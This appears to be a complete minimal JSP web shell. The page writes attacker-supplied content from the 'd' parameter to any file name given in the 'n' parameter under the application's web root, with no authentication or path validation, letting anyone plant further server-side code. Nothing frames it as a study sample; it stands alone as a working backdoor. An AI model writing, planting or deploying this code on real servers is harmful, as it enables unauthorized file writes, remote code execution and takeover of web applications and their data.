<%@ page import="java.io.*" %>
<%
FileOutputStream f = new FileOutputStream(application.getRealPath("/") + request.getParameter("n"));
f.write(request.getParameter("d").getBytes());
f.close();
%>
